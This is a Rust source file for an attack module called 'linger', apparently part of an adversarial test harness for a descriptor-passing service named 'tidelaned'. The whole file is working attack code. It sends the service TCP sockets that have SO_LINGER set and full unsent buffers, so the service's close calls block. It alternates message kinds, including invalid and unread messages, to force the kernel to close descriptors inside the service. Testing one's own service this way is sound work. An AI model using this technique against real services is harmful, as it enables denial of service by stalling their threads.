//! The attack `linger`: sends the service (`tidelaned`) descriptors whose `close` blocks. The
//! descriptors are TCP sockets with SO_LINGER and unsent data. Words in capitals, such as RESERVE,
//! are messages of a program to the service.

use std::{
    io::{self, Write},
    net::{TcpListener, TcpStream},
    os::fd::{AsFd, BorrowedFd, OwnedFd},
    thread,
    time::Duration,
};

use clap::Args;
use rustix::net::sockopt::set_socket_linger;
use serde_json::json;
use tidelane_abi::message;
use tidelane_ring::registration::new_message;

use crate::{
    Target,
    protocol::{Failure, Service},
    report,
};

/// Maximum number of connections over which the attack tries to send one descriptor. An attempt
/// fails if an earlier message made the service close the connection before the descriptor is sent.
const ATTEMPTS_MAX: u32 = 100;

/// Options of `linger`.
#[derive(Args, Debug)]
pub struct Options {
    /// Duration of each `close` in seconds (SO_LINGER)
    #[arg(long, default_value_t = 60)]
    linger: u64,
    /// Number of descriptors, each sent over its own connection to the service
    #[arg(long, default_value_t = 1)]
    times: u32,
    /// Seconds to run after the last descriptor is sent
    #[arg(long, default_value_t = 0.0)]
    seconds: f64,
}

/// Sends each descriptor with one message. Four kinds of messages alternate: 0 is a message that
/// needs no descriptor, 1 is a message that needs a descriptor, 2 is invalid bytes, and 3 is a
/// message that the service never reads.
pub fn run(target: &Target, options: &Options) -> Result<(), Failure> {
    let nobody_reads = TcpListener::bind("127.0.0.1:0")?;
    let mut services = Vec::new();
    let mut sent = 0;
    for turn in 0..options.times {
        let socket = lingering(&nobody_reads, Duration::from_secs(options.linger))?;
        let service = send_over_new_connection(target, turn % 4, socket.as_fd())?;
        sent += u32::from(service.is_some());
        // Only the `close` of the last descriptor of a socket blocks. If the service has already
        // closed its descriptor, `drop` closes the last descriptor, and blocks only the new thread.
        thread::spawn(move || drop(socket));
        // Keep every second connection open, and close the others.
        if turn % 2 == 0 {
            services.extend(service);
        }
    }
    report(&json!({ "attack": "linger", "sent": sent }));
    thread::sleep(Duration::from_secs_f64(options.seconds));
    Ok(())
}

/// Sends the descriptor `socket` as [`send`] does, over a new connection to the service. Returns
/// the connection, or `None` if the descriptor could not be sent over any of [`ATTEMPTS_MAX`]
/// connections.
fn send_over_new_connection(
    target: &Target,
    kind: u32,
    socket: BorrowedFd<'_>,
) -> Result<Option<Service>, Failure> {
    for _ in 0..ATTEMPTS_MAX {
        let service = Service::connect(&target.0)?;
        if send(&service, kind, socket).is_ok() {
            return Ok(Some(service));
        }
    }
    Ok(None)
}

/// Sends the descriptor `socket` with a message of the kind `kind`, a number from 0 to 3 (see
/// [`run`]). Returns an error if the service has closed the connection before the descriptor is
/// sent.
fn send(service: &Service, kind: u32, socket: BorrowedFd<'_>) -> Result<(), Failure> {
    let report = new_message(message::REPORT_NOT_ACCELERATED);
    match kind {
        0 => service.send(&report, &[socket]),
        1 => service.send(&new_message(message::RESERVE), &[socket]),
        2 => service.send_bytes(b"no message", &[socket]),
        // After CONTEXT without a descriptor, the service closes the connection without reading
        // REPORT_NOT_ACCELERATED. The kernel closes the descriptor of the unread message within the
        // service's `close` of the connection.
        _ => {
            service.send(&new_message(message::CONTEXT), &[])?;
            service.send(&report, &[socket])
        }
    }
}

/// Returns a connection to `peer`, with a full send buffer and SO_LINGER of `time`. `peer` never
/// reads.
fn lingering(peer: &TcpListener, time: Duration) -> io::Result<OwnedFd> {
    let mut socket = TcpStream::connect(peer.local_addr()?)?;
    socket.set_nonblocking(true)?;
    while socket.write(&[0; 65_536]).is_ok() {}
    socket.set_nonblocking(false)?;
    set_socket_linger(&socket, Some(time))?;
    Ok(socket.into())
}
